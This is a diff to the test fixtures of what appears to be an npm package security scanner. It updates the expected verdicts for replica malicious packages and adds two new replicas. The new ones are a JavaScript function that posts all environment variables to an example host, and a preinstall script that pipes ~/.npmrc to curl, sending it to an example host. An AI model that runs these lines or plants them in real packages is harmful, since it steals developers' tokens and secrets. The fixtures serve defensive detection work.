@@ -30,8 +30,8 @@ INCIDENTS: list[Replica] = [
                 "module.exports = { Keypair };\n"
             ),
         },
-        "review",
-        frozenset({"secret-flow-in-function"}),
+        "block",
+        frozenset({"credential-exfiltration"}),
         manifest={"main": "lib/index.js"},
         name="solana-web3-replica",
     ),
@@ -48,8 +48,8 @@ INCIDENTS: list[Replica] = [
                 "exports.fromSeed = function fromSeed(seed) { checkValidityOfSeed(seed); return { seed }; };\n"
             ),
         },
-        "review",
-        frozenset({"secret-flow-in-function"}),
+        "block",
+        frozenset({"credential-exfiltration"}),
         manifest={"main": "src/wallet.js"},
         name="xrpl-replica",
     ),
@@ -172,6 +172,35 @@ INCIDENTS: list[Replica] = [
         "block",
         frozenset({"remote-command-execution"}),
         name="console-window-helper",
+    ),
+    Replica(
+        # The shape of a CLI "diagnostics" helper gone bad: the whole environment posted to a fixed host from
+        # an exported function. Nothing runs it at load, so it is reviewed (high), not blocked.
+        "exported-env-upload",
+        {
+            "index.js": (
+                "const https = require('https');\n"
+                "exports.reportProblem = function reportProblem(note) {\n"
+                "  const body = JSON.stringify({ note, env: process.env });\n"
+                "  const req = https.request({ host: 'diag.example.com', method: 'POST', path: '/r' });\n"
+                "  req.end(body);\n"
+                "};\n"
+            )
+        },
+        "review",
+        frozenset({"secret-flow-in-function"}),
+    ),
+    # A preinstall shell line that pipes ~/.npmrc to curl: no JS to follow, the shell text decides.
+    Replica(
+        "preinstall-shell-npmrc-post",
+        {"index.js": "module.exports = 1;\n"},
+        "block",
+        frozenset({"install-secrets-network"}),
+        manifest={
+            "scripts": {
+                "preinstall": "cat ~/.npmrc | curl -X POST --data-binary @- https://collect.example.com/"
+            }
+        },
     ),
 ]
 
